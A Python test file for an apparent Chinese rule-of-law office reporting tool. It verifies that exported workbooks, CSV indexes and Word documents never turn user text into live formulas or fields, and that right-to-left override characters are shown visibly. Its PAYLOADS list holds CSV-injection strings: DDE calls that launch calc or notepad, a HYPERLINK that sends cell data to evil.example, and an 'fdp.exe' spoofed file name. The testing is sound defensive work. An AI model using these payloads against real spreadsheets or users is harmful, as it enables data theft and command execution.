"""Text from outside never becomes a live formula: every user field through every output.

Office name, county, contact and the other profile fields, notes, owner, evidence file names and
descriptions, statistics indicator wording and catalogue wording are all set to formula-like
values; then the report workbook, the evidence zip's 目录.csv, the county's roll-up and the .docx
are written and read back. No workbook cell may be a formula (other than the 佐证材料 sheet's
own links to files in the package) and no text cell may start with a formula character without
quotePrefix; every CSV text cell that starts with one is prefixed with ``'``.
"""

from __future__ import annotations

import csv
import dataclasses
import datetime as dt
import io
import re
import zipfile

import openpyxl
import pytest

from fazhi_desk.domain.statistics import Indicator
from fazhi_desk.errors import UserError
from fazhi_desk.jobs import JobContext
from fazhi_desk.paths import DataDir
from fazhi_desk.safetext import FORMULA_TRIGGERS, csv_cell, neutralise
from fazhi_desk.services.annual_text import export_docx, save_section
from fazhi_desk.services.checklist import set_fields
from fazhi_desk.services.profile import FIELD_NAMES, set_profile
from fazhi_desk.services.report import export_report
from fazhi_desk.services.statistics import set_statistic
from tests.conftest import make_catalogue
from tests.reports.conftest import TODAY, YEAR, add_evidence

PAYLOADS = (
    '=HYPERLINK("http://evil.example/?"&C2,"点我")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C notepad'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\x01=HYPERLINK(\"http://evil.example/\")",
)
LINK_RE = re.compile(r'^=HYPERLINK\("((?:[^"]|"")*)","((?:[^"]|"")*)"\)$')


def payload(n: int) -> str:
    return PAYLOADS[n % len(PAYLOADS)]


def test_neutralise_flags_every_trigger_and_shows_direction_controls():
    for p in PAYLOADS:
        assert neutralise(p).quote, p
        assert csv_cell(p).startswith("'"), p
    assert neutralise("学法通知").quote is False and csv_cell("学法通知") == "学法通知"
    assert csv_cell(-3) == -3 and csv_cell(None) is None
    assert neutralise("\u202efdp.exe").text == "[U+202E]fdp.exe"
    assert neutralise("a\x00b\x0bc").text == "abc"


def _hostile_catalogue():
    cat = make_catalogue()
    items = tuple(dataclasses.replace(it, requirement=payload(n) + it.requirement, chapter=payload(n + 1))
                  for n, it in enumerate(cat.items))
    ind = Indicator(code="TT_HOSTILE", name=payload(3) + "件数", unit="件", category=payload(4), source="TT2020")
    return dataclasses.replace(cat, items=items, indicators=(ind,))


def _office(root, n: int):
    from fazhi_desk.services.catalogue import install_new_document
    from fazhi_desk.store.db import open_store

    st = open_store(DataDir(root).ensure())
    with st.transaction() as s:
        install_new_document(s, _hostile_catalogue(), source_file="test")
    fields = {k: payload(i + n) for i, k in enumerate(FIELD_NAMES)}
    fields["office_name"] = payload(n) + f"镇{n}\u202e办"  # two offices must differ; a direction control too
    for k, v in fields.items():
        try:
            set_profile(st, **{k: v})
        except UserError:  # a field with a format of its own (单位编码) refuses such text outright
            pass
    set_fields(st, "TT2020-01-01", YEAR, {"status": "已完成", "actual": 4, "owner": payload(n + 2),
                                          "completed_on": "2025-11-20", "note": payload(n + 3)})
    set_fields(st, "TT2020-03-01", YEAR, {"status": "进行中", "owner": payload(n + 4), "note": payload(n + 5)})
    set_statistic(st, YEAR, "TT_HOSTILE", 3)
    set_statistic(st, YEAR, "MEDIATION", 7)
    for k, p in enumerate(PAYLOADS):
        add_evidence(st, "TT2020-01-01", YEAR, p + f"{k}.pdf", f"content {n} {k}".encode(),
                     description=payload(k + 1), doc_date=dt.date(2025, 3, 2))
    add_evidence(st, "TT2020-03-01", YEAR, "\u202efdp.exe", b"MZ not really", description="说明")
    save_section(st, YEAR, "measures", payload(n) + "\n" + payload(n + 1))
    return st


def _assert_no_formula(path, *, links_allowed: bool) -> int:
    wb = openpyxl.load_workbook(path)
    checked = 0
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for c in row:
                v = c.value
                if c.data_type == "f" or (isinstance(v, str) and v.startswith("=") and not c.quotePrefix):
                    m = LINK_RE.match(str(v))
                    assert links_allowed and m, f"{ws.title}!{c.coordinate} is a formula: {v!r}"
                    assert "://" not in m.group(1) and "|" not in m.group(1), f"{ws.title}!{c.coordinate}: {v!r}"
                    continue
                if isinstance(v, str) and v.startswith(FORMULA_TRIGGERS):
                    assert c.quotePrefix and c.data_type == "s", f"{ws.title}!{c.coordinate}: {v!r} not quoted"
                    checked += 1
    return checked


@pytest.fixture(scope="module")
def outputs(tmp_path_factory):
    root = tmp_path_factory.mktemp("hostile")
    out = {"reports": []}
    for n in range(2):
        st = _office(root / f"office{n}", n)
        try:
            xlsx = root / f"报告{n}.xlsx"
            export_report(JobContext(), st, YEAR, xlsx, root / f"佐证{n}.zip", today=TODAY)
            out["reports"].append(xlsx)
            if n == 0:
                out["zip"] = root / f"佐证{n}.zip"
                out["docx"] = export_docx(JobContext(), st, YEAR, root / "报告.docx", today=TODAY)
        finally:
            st.close()
    from fazhi_desk.reports.rollup import rollup

    out["rollup"] = root / "汇总.xlsx"
    rollup(out["reports"], out["rollup"])
    return out


def test_the_report_workbook_has_no_formula_from_user_text(outputs):
    assert _assert_no_formula(outputs["reports"][0], links_allowed=True) > 20


def test_the_rollup_has_no_formula_from_office_names_or_wording(outputs):
    assert _assert_no_formula(outputs["rollup"], links_allowed=False) > 10
    wb = openpyxl.load_workbook(outputs["rollup"])
    heads = [c.value for c in wb["事项矩阵"][3]] + [c.value for c in wb["统计汇总"][1]]
    assert any(str(h).startswith("=HYPERLINK") for h in heads)  # the office's name, kept as text


def test_the_evidence_index_csv_prefixes_every_formula_like_cell(outputs):
    with zipfile.ZipFile(outputs["zip"]) as z:
        (name,) = [n for n in z.namelist() if n.endswith("目录.csv")]
        names = z.namelist()
        text = z.read(name).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    cells = [c for r in rows[1:] for c in r]
    assert len(rows) == len(PAYLOADS) + 2
    bad = [c for c in cells if c.startswith(FORMULA_TRIGGERS)]
    assert not bad
    assert sum(1 for c in cells if c.startswith("'=")) >= len(PAYLOADS)
    # a right-to-left override is packed visibly: the name no longer reads "exe.pdf"
    assert any(n.endswith("[U+202E]fdp.exe") for n in names), names
    assert not any("\u202e" in n for n in names)
    assert any(c.endswith("[U+202E]fdp.exe") for c in cells)


def test_the_docx_has_no_field_and_shows_direction_controls(outputs):
    with zipfile.ZipFile(outputs["docx"]) as z:
        xml = z.read("word/document.xml").decode("utf-8")
    assert "fldSimple" not in xml and "instrText" not in xml
    assert "HYPERLINK(" in xml  # the text is there, as text
    assert "\u202e" not in xml and "[U+202E]办" in xml  # the office's name, its control made visible


def test_no_output_keeps_a_direction_control(outputs):
    for p in (*outputs["reports"], outputs["rollup"]):
        wb = openpyxl.load_workbook(p)
        for ws in wb.worksheets:
            for row in ws.iter_rows():
                for c in row:
                    assert "\u202e" not in str(c.value or ""), (p.name, ws.title, c.coordinate)
    with zipfile.ZipFile(outputs["zip"]) as z:
        assert not any("\u202e" in n for n in z.namelist())
        assert all("\u202e" not in z.read(n).decode("utf-8", "replace") for n in z.namelist() if n.endswith(".csv"))
